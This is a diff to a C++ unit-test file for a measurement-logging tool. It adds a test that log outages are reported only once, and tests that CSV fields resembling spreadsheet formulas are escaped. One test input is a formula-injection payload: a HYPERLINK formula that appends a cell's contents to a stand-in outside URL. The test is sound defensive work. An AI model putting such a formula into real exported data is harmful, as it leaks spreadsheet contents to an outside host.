@@ -697,6 +697,21 @@ TEST_F(SessionTest, TheMeasurementLogHasARowForEveryLineWithWhyNothingWasTyped) 
     EXPECT_THAT(said, testing::StartsWith("travek: Protokoll nicht/da.csv: "));
     EXPECT_EQ(std::count(said.begin(), said.end(), '\n'), 1) << said;
     EXPECT_EQ(keys.texts.size(), 6u);
+
+    // Each outage is said once: after the log works again, the next one is news.
+    std::filesystem::create_directory(dir.file("nicht"));
+    testing::internal::CaptureStderr();
+    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
+    std::filesystem::remove(dir.file("nicht/da.csv"));
+    std::error_code inUse;
+    std::filesystem::create_directory(dir.file("nicht/da.csv"), inUse);
+    if (inUse) {
+        testing::internal::GetCapturedStderr();
+        GTEST_SKIP() << "here a file that is open cannot give its name to a folder";
+    }
+    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
+    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
+    EXPECT_EQ(testing::internal::GetCapturedStderr(), "travek: Protokoll nicht/da.csv: ein Ordner, keine Datei\n");
 }
 
 TEST(MeasurementLog, FieldsAreQuotedAndLinesEscapedSoEachRowStaysOneRow) {
@@ -705,6 +720,12 @@ TEST(MeasurementLog, FieldsAreQuotedAndLinesEscapedSoEachRowStaysOneRow) {
     EXPECT_EQ(MeasurementLog::field("say \"x\""), "\"say \"\"x\"\"\"");
     EXPECT_EQ(MeasurementLog::escapeLine("\nA:\t1\\2\x7F"), "\\x0AA:\\x091\\\\2\\x7F");
     EXPECT_EQ(MeasurementLog::escapeLine("Gr\xF6\xDF" "e"), "Gr\xF6\xDF" "e");
+    // A text that a spreadsheet would compute shows as text; a typed value stays a number.
+    EXPECT_EQ(MeasurementLog::textField("=HYPERLINK(\"http://e.x/?\"&A1)"), "\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1)\"");
+    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1"})
+        EXPECT_EQ(MeasurementLog::textField(formula), "\"'" + std::string(formula) + "\"") << formula;
+    EXPECT_EQ(MeasurementLog::textField("A: 1,5"), "A: 1,5");
+    EXPECT_EQ(MeasurementLog::field("-1,234"), "-1,234");
 }
 
 } // namespace
